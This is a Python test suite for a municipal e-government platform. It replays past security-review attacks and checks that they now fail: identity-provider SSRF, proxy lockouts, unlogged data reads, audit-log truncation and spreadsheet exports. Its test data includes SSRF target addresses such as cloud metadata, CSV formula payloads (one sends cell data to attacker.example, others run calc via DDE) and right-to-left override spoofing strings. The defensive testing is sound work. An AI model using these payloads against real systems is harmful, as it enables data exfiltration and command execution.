"""Attacks tried on Eloket (issue 10), each written as the attack: the request that used
to succeed, and what happens now. Read it as the list of what a security review tried.

(The attacks on the case engine, its API and the outbox are in test_attacks_on_requests.py.)
"""

import pytest
from django.test import TestCase

from conftest import bearer, citizen_user, officer_login_client
from eloket.certificates.services import OrderRequest, order_submit
from eloket.identity.selectors import citizen_actor_of
from eloket.register.models import AccessLogEntry


def place_order(gent, user, subject, delivery="download", kind="residence"):
    with TestCase.captureOnCommitCallbacks(execute=True):
        case, _new = order_submit(
            actor=citizen_actor_of(user),
            municipality=gent,
            order_request=OrderRequest(
                certificate_type=kind,
                subject=subject.national_id,
                language="nl",
                delivery=delivery,
            ),
        )
    case.refresh_from_db()
    return case


# --- 1. A municipality's identity provider could log anyone in anywhere


PUBLIC_ADDRESS = "93.184.215.14"  # a global unicast address; nothing connects to it


@pytest.fixture
def federation(settings, monkeypatch):
    """The platform's federation outside demo mode: its own issuer and one more the
    operator trusts; DNS answers a public address for both (no query leaves the machine)."""
    import socket

    settings.ELOKET_DEMO = False
    settings.ELOKET_OIDC = {
        "issuer": "https://idp.federation.example",
        "client_id": "eloket",
        "client_secret": "s",
        "national_id_claim": "national_number",
        "scope": "openid profile",
    }
    settings.ELOKET_OIDC_ISSUERS = ["https://csam.federation.example"]
    names = {"idp.federation.example": PUBLIC_ADDRESS, "csam.federation.example": PUBLIC_ADDRESS}

    def resolve(host, *args, **kwargs):
        if host in names:
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (names[host], 0))]
        if host == "intranet.federation.example":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.1.2.3", 0))]
        raise socket.gaierror("no such name")

    monkeypatch.setattr("eloket.common.netguard.socket.getaddrinfo", resolve)
    return names


SIMPLE_DEFINITION = {
    "statuses": [
        {"code": "submitted", "names": {"en": "submitted"}, "initial": True},
        {"code": "closed", "names": {"en": "closed"}, "final": True},
    ],
    "transitions": [{"action": "close", "from": ["submitted"], "to": "closed", "by": ["clerk"]}],
}


def open_request(municipality, user, *, audience="residents", code=None):
    """A citizen's request of a data-only kind published at `municipality`."""
    from eloket.cases.models import CaseType
    from eloket.cases.services import case_create, case_type_publish
    from eloket.common.actors import Actor

    code = code or f"parking_{audience}"
    if not CaseType.objects.filter(municipality=municipality, code=code).exists():
        case_type_publish(
            actor=Actor.for_municipality(municipality),
            municipality=municipality,
            code=code,
            names={"en": f"Parking card ({audience})"},
            definition=SIMPLE_DEFINITION,
            audience=audience,
        )
    return case_create(
        actor=citizen_actor_of(user),
        municipality=municipality,
        case_type=code,
        requester_id=user.pk,
        title="Parking card",
        language="en",
    )


class TestIdentityFederation:
    """A municipality administrator set their municipality's OIDC issuer to a provider
    they ran on 127.0.0.1; it asserted a Brugge resident's national number, and the
    session then opened that resident's orders in Brugge. The server also fetched the
    discovery, token and key addresses of whatever issuer was set."""

    @staticmethod
    def override(municipality, issuer):
        from eloket.tenants.models import PluginSetting

        return PluginSetting(
            municipality=municipality,
            registry="identity_providers",
            plugin="oidc",
            options={"issuer": issuer},
        )

    def test_an_issuer_outside_the_federation_is_refused_when_saved(self, gent, federation):
        from django.core.exceptions import ValidationError

        for issuer in ("http://127.0.0.1:9000/evil", "https://idp.attacker.example"):
            with pytest.raises(ValidationError, match="not one of the platform"):
                self.override(gent, issuer).full_clean()
        self.override(gent, "https://csam.federation.example/").full_clean()  # listed: fine

    def test_an_issuer_outside_the_federation_is_refused_when_used(self, client, gent, federation):
        """A row written before the allow-list existed (or straight into the database)
        does not make the platform call, or believe, that provider."""
        from eloket.identity.providers.oidc import OidcNotConfigured, oidc_config

        self.override(gent, "http://127.0.0.1:9000/evil").save()
        with pytest.raises(OidcNotConfigured):
            oidc_config(gent)
        page = client.get("/gent/login/oidc", HTTP_ACCEPT_LANGUAGE="en")
        assert page.status_code == 503 and "not one of the platform" in page.content.decode()

    @pytest.mark.parametrize(
        "issuer",
        [
            "https://127.0.0.1/oidc",
            "https://[::1]/oidc",
            "https://10.0.0.5/oidc",
            "https://169.254.169.254/latest",
            "https://[::ffff:127.0.0.1]/oidc",
            "https://intranet.federation.example",
            "http://idp.federation.example",
        ],
    )
    def test_internal_addresses_are_never_called_outside_demo(self, settings, federation, issuer):
        """Even an issuer the operator listed is refused on loopback, private or link-local
        addresses (or plain http) outside demo mode: no server-side request forgery."""
        from eloket.identity.providers.oidc import OidcNotConfigured, oidc_config

        settings.ELOKET_OIDC = {**settings.ELOKET_OIDC, "issuer": issuer}
        with pytest.raises(OidcNotConfigured):
            oidc_config(None)

    def test_a_discovery_document_pointing_inside_is_refused(self, federation):
        from eloket.identity.providers.oidc import OidcFailed, _check_metadata, oidc_config

        config = oidc_config(None)
        good = {
            "issuer": config.issuer,
            "token_endpoint": "https://idp.federation.example/token",
            "jwks_uri": "https://idp.federation.example/jwks",
        }
        _check_metadata(config, good)
        for name, url in [
            ("token_endpoint", "http://127.0.0.1:6379/"),
            ("jwks_uri", "https://169.254.169.254/latest/meta-data/"),
            ("userinfo_endpoint", "https://intranet.federation.example/userinfo"),
        ]:
            with pytest.raises(OidcFailed):
                _check_metadata(config, {**good, name: url})
        with pytest.raises(OidcFailed, match="another issuer"):
            _check_metadata(config, {**good, "issuer": "https://csam.federation.example"})

    @pytest.mark.django_db(transaction=True)
    def test_a_login_counts_only_in_the_municipality_where_it_started(
        self, family, brugge, add_people, oidc_login, demo_idp
    ):
        """Jan logs in at Gent. On Brugge's pages and API the same session is not logged
        in; he logs in at Brugge too, where he is a visitor."""
        from eloket.common.actors import Actor
        from eloket.tenants.services import municipality_update

        # Brugge offers petitions here (a module that is off answers 404: issue 11, 4).
        municipality_update(
            actor=Actor.system("test", brugge),
            municipality=brugge,
            modules=["certificates", "participation", "petitions"],
        )
        session, answer = oidc_login("gent", family["Jan"].national_id)
        assert answer.url.endswith("/gent/my/")
        brugge_page = session.get(f"{demo_idp}/brugge/my/", timeout=20, allow_redirects=False)
        assert brugge_page.status_code == 302 and "/brugge/login" in brugge_page.headers["Location"]
        assert session.get(f"{demo_idp}/gent/my/", timeout=20).url.endswith("/gent/my/")
        api = session.get(f"{demo_idp}/api/v1/m/brugge/petitions", timeout=20)
        assert api.status_code == 200  # public, but not as Jan:
        signed = session.post(
            f"{demo_idp}/api/v1/m/brugge/petitions/1/signatures",
            headers={"X-CSRFToken": session.cookies.get("csrftoken", "")},
            timeout=20,
        )
        assert signed.status_code in (401, 403)
        # Logging in at Brugge adds Brugge; Gent still counts.
        oidc_login("brugge", family["Jan"].national_id, session)
        assert session.get(f"{demo_idp}/brugge/my/", timeout=20).url.endswith("/brugge/my/")
        assert session.get(f"{demo_idp}/gent/my/", timeout=20).url.endswith("/gent/my/")

    @pytest.mark.django_db(transaction=True)
    def test_a_token_is_no_wider_than_the_login_it_came_from(
        self, family, brugge, oidc_login, demo_idp
    ):
        session, _answer = oidc_login("gent", family["Jan"].national_id)
        made = session.post(
            f"{demo_idp}/api/v1/me/tokens",
            json={"name": "script"},
            headers={"X-CSRFToken": session.cookies.get("csrftoken", "")},
            timeout=20,
        )
        assert made.status_code == 201, made.text
        import requests

        token = {"Authorization": f"Bearer {made.json()['token']}"}
        assert requests.get(f"{demo_idp}/api/v1/me", headers=token, timeout=20).ok
        # (The back office answers a citizen 403 once it knows who asks: 401 is "no token".)
        gent = requests.get(
            f"{demo_idp}/api/v1/m/gent/backoffice/orders", headers=token, timeout=20
        )
        assert gent.status_code == 403
        brugge_ = requests.get(
            f"{demo_idp}/api/v1/m/brugge/backoffice/orders", headers=token, timeout=20
        )
        assert brugge_.status_code == 401
        # A token made with that token is no wider.
        second = requests.post(
            f"{demo_idp}/api/v1/me/tokens", json={"name": "2"}, headers=token, timeout=20
        ).json()["token"]
        again = requests.get(
            f"{demo_idp}/api/v1/m/brugge/backoffice/orders",
            headers={"Authorization": f"Bearer {second}"},
            timeout=20,
        )
        assert again.status_code == 401
        # Nor does it read his request at Brugge by its code (404: not told it exists), and
        # his list of requests holds Gent's only.
        case = open_request(brugge, citizen_user(family["Jan"]), audience="anyone")
        found = requests.get(
            f"{demo_idp}/api/v1/requests/{case.tracking_code}", headers=token, timeout=20
        )
        assert found.status_code == 404
        mine = requests.get(f"{demo_idp}/api/v1/me/requests", headers=token, timeout=20).json()
        assert case.tracking_code not in str(mine)

    def test_a_visitor_may_not_start_a_request_for_residents(self, gent, brugge, family):
        from eloket.common.permissions import PermissionDenied

        jan = citizen_user(family["Jan"])
        with pytest.raises(PermissionDenied, match="you are a visitor"):
            open_request(brugge, jan, audience="residents")
        assert open_request(brugge, jan, audience="anyone").requester_id == jan.pk
        assert open_request(gent, jan, audience="residents").municipality_id == gent.pk


# --- 2. Anyone could lock every officer out


class TestLockoutsBehindAProxy:
    """Failed officer logins were counted per client address in each worker's memory.
    Behind nginx every request comes from 127.0.0.1, so twelve wrong passwords for one
    account locked all officers of all municipalities out for 15 minutes."""

    PROXY = {"REMOTE_ADDR": "127.0.0.1"}

    @pytest.fixture(autouse=True)
    def _behind_nginx(self, settings):
        settings.ELOKET_TRUSTED_PROXIES = ["127.0.0.1/32", "::1/128"]

    def wrong(self, client, username, address="198.51.100.7", **extra):
        meta = {**self.PROXY, "HTTP_X_FORWARDED_FOR": address, **extra}
        return client.post(
            "/auth/officer/login", {"username": username, "password": "nope"}, **meta
        )

    def test_twelve_wrong_passwords_for_one_officer_lock_no_one_else(
        self, client, gent, brugge, make_officer
    ):
        victim = make_officer("gent.clerk", gent)
        other = make_officer("brugge.clerk", brugge)
        for _ in range(12):
            self.wrong(client, victim.username)
        # The attacker's own account target waits; everyone else, on the same proxy, logs in.
        assert self.wrong(client, victim.username).status_code == 429
        from django.test import Client

        colleague = Client(**self.PROXY, HTTP_X_FORWARDED_FOR="203.0.113.20")
        officer_login_client(colleague, other)
        assert colleague.get("/brugge/backoffice/").status_code == 200

    def test_the_wait_grows_with_each_failure_and_ends(
        self, client, gent, make_officer, settings, monkeypatch
    ):
        import time

        settings.ELOKET_LOGIN_MAX_FAILURES = 3
        settings.ELOKET_LOGIN_BACKOFF_SECONDS = 30
        clerk = make_officer("gent.clerk", gent)
        now = [time.time()]
        monkeypatch.setattr("eloket.common.ratelimit.time.time", lambda: now[0])
        for _ in range(3):
            assert self.wrong(client, clerk.username).status_code == 403
        # The 4th failure is refused outright for 30 s, the next for 60 s, ...
        now[0] += 31
        assert self.wrong(client, clerk.username).status_code == 403
        now[0] += 31
        assert self.wrong(client, clerk.username).status_code == 429
        now[0] += 30
        page = client.post(
            "/auth/officer/login",
            {"username": clerk.username, "password": "correct horse 42"},
            **self.PROXY,
            HTTP_X_FORWARDED_FOR="198.51.100.7",
        )
        assert page.status_code == 302  # the wait is over, the right password works

    def test_a_forged_forwarded_for_from_outside_is_ignored(
        self, client, gent, make_officer, settings
    ):
        """A client that is not our proxy cannot pick the address its failures count under
        (here: rotating fake addresses to escape the per-address limit)."""
        settings.ELOKET_LOGIN_ADDRESS_LIMIT = 5
        for number in range(6):
            make_officer(f"gent.clerk{number}", gent)
        outside = {"REMOTE_ADDR": "192.0.2.66"}
        for number in range(5):
            self.wrong(client, f"gent.clerk{number}", address=f"10.0.0.{number}", **outside)
        answer = client.post(
            "/auth/officer/login",
            {"username": "gent.clerk5", "password": "correct horse 42"},
            **outside,
            HTTP_X_FORWARDED_FOR="10.0.0.99",
        )
        assert answer.status_code == 429

    def test_one_address_trying_many_accounts_is_stopped_but_only_that_address(
        self, client, gent, make_officer, settings
    ):
        settings.ELOKET_LOGIN_ADDRESS_LIMIT = 5
        for number in range(6):
            make_officer(f"gent.clerk{number}", gent)
        for number in range(5):
            self.wrong(client, f"gent.clerk{number}")
        assert self.wrong(client, "gent.clerk5").status_code == 429
        from django.test import Client

        elsewhere = Client(**self.PROXY, HTTP_X_FORWARDED_FOR="203.0.113.20")
        response = elsewhere.post(
            "/auth/officer/login", {"username": "gent.clerk5", "password": "correct horse 42"}
        )
        assert response.status_code == 302

    def test_the_default_address_limit_allows_a_hundred_failures(self, settings):
        assert settings.ELOKET_LOGIN_ADDRESS_LIMIT >= 100

    def test_verification_look_ups_are_limited_per_real_client(self, client, db, settings):
        settings.ELOKET_VERIFY_RATE = 3
        codes = []
        for _ in range(4):
            codes.append(
                client.get(
                    "/api/v1/verify/AAAA-BBBB-CCCC",
                    **self.PROXY,
                    HTTP_X_FORWARDED_FOR="198.51.100.7",
                ).status_code
            )
        assert codes[-1] == 429
        other = client.get(
            "/api/v1/verify/AAAA-BBBB-CCCC",
            **self.PROXY,
            HTTP_X_FORWARDED_FOR="203.0.113.20",
        )
        assert other.status_code != 429


# --- 3. Reads of a person's data without an access-log entry


class TestEveryReadIsLogged:
    """An officer downloaded a certificate's PDF (page and API) or printed the postal
    batch: the subject's name, birth, nationality and address, and nothing in the
    subject's access log."""

    def test_an_officer_downloads_the_pdf(self, client, gent, family, seals, make_officer):
        case = place_order(gent, citizen_user(family["Jan"]), family["Jan"])
        clerk = make_officer("gent.clerk", gent)
        officer_login_client(client, clerk)
        answer = client.get(f"/gent/backoffice/orders/{case.tracking_code}/document.pdf")
        assert answer.status_code == 200 and answer.content.startswith(b"%PDF-")
        by_page = AccessLogEntry.objects.filter(person=family["Jan"], actor_user=clerk)
        assert by_page.count() == 1 and by_page.get().data == ["certificate"]
        assert case.display_code in by_page.get().purpose  # in the officer's language
        answer = client.get(f"/api/v1/orders/{case.tracking_code}/document", **bearer(clerk))
        assert answer.status_code == 200
        assert by_page.count() == 2

    def test_a_relative_downloads_it_too(self, client, gent, family, seals):
        """Jan's order of Lotte's certificate: Lotte's log says Jan opened it."""
        jan = citizen_user(family["Jan"])
        case = place_order(gent, jan, family["Lotte"], kind="residence")
        before = AccessLogEntry.objects.filter(person=family["Lotte"]).count()
        client.force_login(jan)
        assert client.get(f"/gent/orders/{case.tracking_code}/document.pdf").status_code == 200
        assert AccessLogEntry.objects.filter(person=family["Lotte"]).count() == before + 1
        # The subject downloading their own certificate is not a read by someone else.
        mine = place_order(gent, jan, family["Jan"])
        before = AccessLogEntry.objects.filter(person=family["Jan"]).count()
        assert client.get(f"/gent/orders/{mine.tracking_code}/document.pdf").status_code == 200
        assert AccessLogEntry.objects.filter(person=family["Jan"]).count() == before

    def test_the_postal_batch(self, client, gent, family, seals, make_officer):
        jan = citizen_user(family["Jan"])
        place_order(gent, jan, family["Lotte"], delivery="post")
        clerk = make_officer("gent.clerk", gent)
        officer_login_client(client, clerk)
        batch = client.post("/gent/backoffice/post/", {"action": "print"})
        assert batch["Content-Type"] == "application/pdf"
        logged = AccessLogEntry.objects.filter(actor_user=clerk)
        # The requester's address (for the envelope) and the subject's certificate.
        assert set(logged.values_list("person__first_names", flat=True)) == {"Jan", "Lotte"}
        lotte = logged.get(person=family["Lotte"])
        assert lotte.data == ["certificate"] and lotte.case_ref.startswith("order:")


@pytest.fixture(autouse=True)
def _no_network(monkeypatch):
    """Nothing here reaches outside the machine."""
    import socket

    real = socket.socket.connect

    def guarded(self, address):
        host = address[0] if isinstance(address, tuple) else address
        if host not in ("127.0.0.1", "::1", "localhost") and not str(host).startswith("/"):
            raise OSError(f"test tried to reach {host}")
        return real(self, address)

    monkeypatch.setattr(socket.socket, "connect", guarded)


# --- 4. National numbers in URLs and logs


class TestNoNationalNumberInUrlsOrLogs:
    """`…/backoffice/persons/{national_number}` carried one in the path; Django's request
    log wrote 4xx paths unredacted; the redaction missed spaces and other separators."""

    def test_the_look_up_takes_the_number_in_the_body(self, client, gent, family, make_officer):
        headers = bearer(make_officer("gent.clerk", gent))
        number = family["Jan"].national_id
        gone = client.get(f"/api/v1/m/gent/backoffice/persons/{number}?purpose=x", **headers)
        assert gone.status_code == 410 and gone.json()["code"] == "gone"
        found = client.post(
            "/api/v1/m/gent/backoffice/persons/lookup",
            {"national_number": number, "purpose": "A check"},
            content_type="application/json",
            **headers,
        )
        assert found.status_code == 200
        schema = client.get("/api/v1/openapi.json").json()
        assert not [path for path in schema["paths"] if "national" in path or "{number" in path]

    @pytest.mark.parametrize(
        "written",
        [
            "85073002536",
            "85.07.30-025.36",
            "850730 025 36",
            "85+07+30+025+36",
            "85%2E07%2E30%2D025%2E36",
            "85%2007%2030%20025%2036",
            "840417-1355733",
        ],
    )
    def test_any_notation_is_redacted_in_every_log(self, client, db, written, caplog):
        import logging

        from django.conf import settings
        from django.utils.module_loading import import_string

        from conftest import national_numbers_in

        client.get(f"/api/v1/m/gent/backoffice/persons/{written}")  # a 404 or 410, logged
        client.get(f"/nowhere/{written}/")
        spec = settings.LOGGING["formatters"]["plain"]
        formatter = import_string(spec["()"])(spec["format"])
        lines = [formatter.format(r) for r in caplog.records]
        assert any("[national number]" in line for line in lines), lines
        assert not [line for line in lines if national_numbers_in(line)]
        assert not national_numbers_in(
            formatter.format(
                logging.LogRecord("x", logging.ERROR, "", 0, "failed for %s", (written,), None)
            )
        )

    def test_the_redaction_leaves_dates_and_codes_alone(self):
        from eloket.common.redaction import redact

        for text in ("2026-11-28 04:10:02,123", "/gent/services/?page=12345", "X473-3G6J"):
            assert redact(text) == text
        # A task's id: two of its groups make 11 digits, but it is a UUID.
        task = "Task id=6fd12345-6789-01bb-8c0d-1234567890ab succeeded"
        assert redact(task) == task
        assert redact("6fd12345-6789-01bb-8c0d-1234567890ab 85.07.30-033.28") == (
            "6fd12345-6789-01bb-8c0d-1234567890ab [national number]"
        )
        # A request id (uuid4().hex) with a run of 11 digits in it.
        request = '"request_id": "4f1c85073003328cdda7958b191d95cc"'
        assert redact(request) == request
        assert redact("4f1c85073003328cdda7958b191d95cc 85073003328") == (
            "4f1c85073003328cdda7958b191d95cc [national number]"
        )
        assert redact("id 85073003328abc") == "id [national number]abc"


# --- 6. Second factor and tokens


class TestAuthenticatorsAndTokens:
    """A municipality administrator could reset the authenticator of an officer who also
    works elsewhere (and that officer's page answered 500); API tokens skipped the second
    factor for up to a year and survived "log out everywhere", a password change and an
    authenticator reset."""

    @pytest.fixture
    def shared(self, gent, brugge, make_officer):
        from eloket.identity.models import OfficerRole

        admin = make_officer("gent.admin", gent, role="admin")
        both = make_officer("shared.clerk", gent)
        OfficerRole.objects.create(user=both, municipality=brugge, role="clerk")
        return admin, both

    def test_an_admin_leaves_an_officer_of_two_municipalities_alone(self, client, shared):
        from django_otp.plugins.otp_totp.models import TOTPDevice

        admin, both = shared
        officer_login_client(client, admin)
        page = client.get(f"/admin/identity/officer/{both.pk}/change/")
        assert page.status_code == 200
        answer = client.post(
            "/admin/identity/officer/",
            {"action": "reset_authenticator", "_selected_action": [both.pk]},
        )
        assert answer.status_code in (200, 302)
        assert TOTPDevice.objects.filter(user=both).exists()

    def test_officer_tokens_are_short_lived(self, gent, make_officer):
        import datetime as dt

        from django.utils import timezone

        from eloket.identity.services import api_token_create

        clerk = make_officer("gent.clerk", gent)
        issued = api_token_create(user=clerk, name="script", days=365)
        assert issued.token.expires_at - timezone.now() <= dt.timedelta(hours=8, minutes=1)

    def test_tokens_die_with_the_credentials(self, client, gent, family, make_officer):
        from django_otp.plugins.otp_totp.models import TOTPDevice

        from eloket.identity.services import api_token_create, sessions_end_all

        clerk = make_officer("gent.clerk", gent)
        me = "/api/v1/me"

        def works(secret):
            return client.get(me, HTTP_AUTHORIZATION=f"Bearer {secret}").status_code == 200

        token = api_token_create(user=clerk, name="t").secret
        clerk.set_password("another long password 42")
        clerk.save()
        assert not works(token)
        token = api_token_create(user=clerk, name="t").secret
        TOTPDevice.objects.filter(user=clerk).delete()  # the authenticator is reset
        assert not works(token)
        jan = citizen_user(family["Jan"])
        token = api_token_create(user=jan, name="t").secret
        assert works(token)
        sessions_end_all(user=jan)  # "log out everywhere"
        assert not works(token)


# --- 7. The access-log chain cut back, or deleted with its head, unnoticed


class TestTheAccessLogCannotBeCutBack:
    """Someone with the database deleted the newest entries of a municipality's access log
    and set the chain's head back to the last hash kept (or deleted the whole chain with its
    head): `eloket audit verify` found every chain intact, since the head lives in the same
    database. `QuerySet.update()` and `.delete()` also walked past the append-only guard.
    Now signed checkpoints in files outside the database hold the heads, with a key that is
    not in the database, and the guard covers querysets."""

    @pytest.fixture
    def anchored(self, settings, tmp_path):
        from cryptography.hazmat.primitives import serialization
        from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

        key = tmp_path / "checkpoint_key.pem"
        key.write_bytes(
            Ed25519PrivateKey.generate().private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            )
        )
        settings.ELOKET_CHECKPOINT_DIR = str(tmp_path / "checkpoints")
        settings.ELOKET_CHECKPOINT_KEY = str(key)
        settings.ELOKET_CHECKPOINT_PUBLIC_KEY = ""
        return tmp_path / "checkpoints"

    @staticmethod
    def reads(gent, person, n):
        from eloket.common.actors import Actor
        from eloket.register.access_log import access_log_write

        for i in range(n):
            access_log_write(
                person=person,
                actor=Actor.system("a check", gent),
                data=["identity"],
                purpose=str(i),
            )

    @staticmethod
    def checkpoint():
        from io import StringIO

        from django.core.management import call_command

        call_command("audit", "checkpoint", stdout=StringIO())

    @staticmethod
    def verify_fails():
        from io import StringIO

        from django.core.management import CommandError, call_command

        err = StringIO()
        with pytest.raises(CommandError):
            call_command("audit", "verify", stdout=StringIO(), stderr=err)
        return err.getvalue()

    @staticmethod
    def sql(statement, *params):
        from django.db import connection

        with connection.cursor() as cursor:
            cursor.execute(statement, params)

    def test_the_newest_entries_deleted_and_the_head_set_back(self, anchored, gent, family):
        from eloket.register.access_log import access_log_verify, chain_name

        self.reads(gent, family["Jan"], 5)
        self.checkpoint()
        chain = chain_name(gent.pk)
        kept = AccessLogEntry.objects.get(chain=chain, sequence=2)
        self.sql("DELETE FROM register_accesslogentry WHERE chain = %s AND sequence > 2", chain)
        self.sql(
            "UPDATE common_chainhead SET length = 2, last_hash = %s WHERE chain = %s",
            kept.entry_hash,
            chain,
        )
        assert access_log_verify() == []  # the chain alone fits together: this used to pass
        err = self.verify_fails()
        assert f"chain {chain}" in err and "the newest entries were deleted" in err

    def test_a_whole_chain_deleted_with_its_head(self, anchored, gent, family):
        from eloket.register.access_log import access_log_verify, chain_name

        self.reads(gent, family["Jan"], 3)
        self.checkpoint()
        chain = chain_name(gent.pk)
        self.sql("DELETE FROM register_accesslogentry WHERE chain = %s", chain)
        self.sql("DELETE FROM common_chainhead WHERE chain = %s", chain)
        assert access_log_verify() == []  # used to pass
        assert "the whole chain was deleted with its head" in self.verify_fails()

    def test_rewriting_the_checkpoint_too_needs_the_key(self, anchored, gent, family):
        import json

        from eloket.register.access_log import chain_name

        self.reads(gent, family["Jan"], 3)
        self.checkpoint()
        chain = chain_name(gent.pk)
        self.sql("DELETE FROM register_accesslogentry WHERE chain = %s", chain)
        self.sql("DELETE FROM common_chainhead WHERE chain = %s", chain)
        [path] = anchored.glob("checkpoint-*.json")
        document = json.loads(path.read_text())
        del document["chains"][chain]
        path.chmod(0o644)
        path.write_text(json.dumps(document))
        assert "the signature does not verify" in self.verify_fails()

    def test_querysets_no_longer_get_past_the_guard(self, gent, family):
        self.reads(gent, family["Jan"], 2)
        entries = AccessLogEntry.objects.filter(person=family["Jan"])
        with pytest.raises(PermissionError):
            entries.update(purpose="nothing to see")
        with pytest.raises(PermissionError):
            entries.delete()
        assert entries.count() == 2


# --- 9. Smaller items


@pytest.fixture
def forum_topic(gent, family):
    """An open topic at Gent, where Jan and Sofie (adults living there) take part."""
    from eloket.common.actors import Actor
    from eloket.forum import services

    return services.topic_create(
        actor=Actor.system("moderation", gent),
        municipality=gent,
        title={"nl": "Een plein", "en": "A square"},
        phase="open",
        min_age=16,
    )


def forum_post(topic, person, text):
    from django.core.cache import cache

    from eloket.forum import services
    from eloket.identity.eligibility import participant_actor

    cache.clear()  # the limit of five opinions per ten minutes is not what these test
    return services.opinion_post(
        actor=participant_actor(citizen_user(person)),
        municipality=topic.municipality,
        topic=topic,
        text=text,
    )


FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# (An opinion loses leading white space when posted; other cells may start with it.)
WHITE_FORMULAS = ["\t=1+1", "\r=1+1"]


class TestSpreadsheetFormulas:
    """A resident posted `=HYPERLINK(...)` as an opinion; the officer who opened the
    topic's CSV export (or the Polis zip) in a spreadsheet ran it."""

    def test_the_opinions_export_escapes_formulas(
        self, client, gent, family, forum_topic, make_officer
    ):
        import csv
        import io

        for text in FORMULAS:
            forum_post(forum_topic, family["Jan"], text)
        forum_post(forum_topic, family["Sofie"], "Meer bomen - en banken")
        officer_login_client(client, make_officer("gent.clerk", gent))
        answer = client.get(f"/gent/backoffice/forum/{forum_topic.pk}/export")
        assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
        texts = [row["text"] for row in rows]
        assert sorted(texts) == sorted(
            ["'" + text for text in FORMULAS] + ["Meer bomen - en banken"]
        )
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row

    def test_the_polis_export_escapes_and_still_reads_back(self, gent, family, forum_topic):
        import io
        import zipfile

        from eloket.common.actors import Actor
        from eloket.forum import services
        from eloket.forum.interchange import export_zip, import_polis_upload
        from eloket.forum.models import Opinion
        from eloket.identity.eligibility import participant_actor

        texts = [*FORMULAS, "'=typed with a quote", "'plain quote", "gewoon"]
        opinions = [forum_post(forum_topic, family["Jan"], text) for text in texts]
        services.vote_cast(
            actor=participant_actor(citizen_user(family["Sofie"])),
            municipality=gent,
            opinion=opinions[0],
            value=-1,
        )
        data = export_zip(forum_topic)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            comments = archive.read("comments.csv").decode()
            votes = archive.read("votes.csv").decode()
        assert "\n=HYPERLINK" not in comments and "'=HYPERLINK" in comments
        assert "''=typed with a quote" in comments  # so that reading back strips one quote
        assert votes.rstrip().endswith(",-1")  # a number we wrote stays a number for Polis
        again = import_polis_upload(
            actor=Actor.system("test", gent), municipality=gent, files={"topic.zip": data}
        )
        assert sorted(Opinion.objects.filter(topic=again).values_list("text", flat=True)) == sorted(
            texts
        )
        assert Opinion.objects.get(topic=again, text=FORMULAS[0]).disagree == 1

    def test_every_csv_is_written_through_the_one_helper(self):
        """A new export written with csv.writer directly would escape nothing."""
        from pathlib import Path

        import eloket

        root = Path(eloket.__file__).parent
        writers = [
            str(path.relative_to(root))
            for path in root.rglob("*.py")
            if "csv.writer(" in path.read_text(encoding="utf-8")
            or "DictWriter(" in path.read_text(encoding="utf-8")
        ]
        assert writers == ["common/spreadsheet.py"]

    def test_the_escaping_is_undone_exactly(self):
        from eloket.common.spreadsheet import spreadsheet_escape, spreadsheet_unescape

        for text in [
            *FORMULAS,
            *WHITE_FORMULAS,
            "",
            "'",
            "''",
            "'=",
            "''=x",
            "'x",
            "x=1",
            "-",
            "=",
            "a\tb",
        ]:
            escaped = spreadsheet_escape(text)
            assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert spreadsheet_unescape(escaped) == text
        assert spreadsheet_escape("\t=1") == "'\t=1"
        assert spreadsheet_escape(-1) == -1 and spreadsheet_escape(None) is None


RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "pay to gnp.exe" shows as "pay to exe.png"
HIDDEN = ["\x00", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", RLO]
HIDDEN += ["\u2066", "\u2067", "\u2068", "\u2069"]


class TestHiddenCharacters:
    """An opinion, a petition, a message on a request and a register import carried NUL
    (a 500 on PostgreSQL) or controls of text direction, which made what an officer or a
    resident read differ from what was written (Trojan Source)."""

    def json_post(self, client, url, body, user):
        return client.post(
            url, body, content_type="application/json", HTTP_ACCEPT_LANGUAGE="en", **bearer(user)
        )

    @pytest.mark.parametrize("character", HIDDEN)
    def test_an_opinion_through_the_api(self, client, family, forum_topic, character):
        from eloket.forum.models import Opinion

        url = f"/api/v1/m/gent/forum/topics/{forum_topic.pk}/opinions"
        jan = citizen_user(family["Jan"])
        answer = self.json_post(client, url, {"text": f"Meer bomen{character}!"}, jan)
        assert answer.status_code == 400 and answer.json()["code"] == "invalid_characters"
        assert f"U+{ord(character):04X}" in answer.json()["message"]
        assert not Opinion.objects.exists()
        assert self.json_post(client, url, {"text": "Meer bomen!"}, jan).status_code == 201

    def test_a_petition_through_the_api(self, client, family):
        from eloket.petitions.models import Petition

        answer = self.json_post(
            client,
            "/api/v1/m/gent/petitions",
            {"title": f"Geen {RLO}gnp.exe", "text": "Tekst"},
            citizen_user(family["Jan"]),
        )
        assert answer.status_code == 400 and answer.json()["code"] == "invalid_characters"
        assert not Petition.objects.exists()

    def test_a_request_and_its_messages(self, client, gent, family):
        from eloket.cases.models import Case, CaseMessage

        jan = citizen_user(family["Jan"])
        case = open_request(gent, jan, audience="anyone", code="questions")
        client.force_login(jan)
        page = client.post(
            "/gent/ask/questions",
            {"text": f"Is dit {RLO}fdp.exe veilig?"},
            HTTP_ACCEPT_LANGUAGE="en",
        )
        assert page.status_code == 400 and "U+202E RIGHT-TO-LEFT OVERRIDE" in page.content.decode()
        assert Case.objects.count() == 1
        answer = client.post(
            f"/gent/requests/{case.tracking_code}/act",
            {"action": "message", "text": "Zie bijlage\u2067 hier"},
            HTTP_ACCEPT_LANGUAGE="en",
            follow=True,
        )
        assert "U+2067 RIGHT-TO-LEFT ISOLATE" in answer.content.decode()
        assert not CaseMessage.objects.filter(case=case).exists()
        api = self.json_post(
            client, "/api/v1/m/gent/requests", {"kind": "questions", "text": "Nul\x00"}, jan
        )
        assert api.status_code == 400 and api.json()["code"] == "invalid_characters"
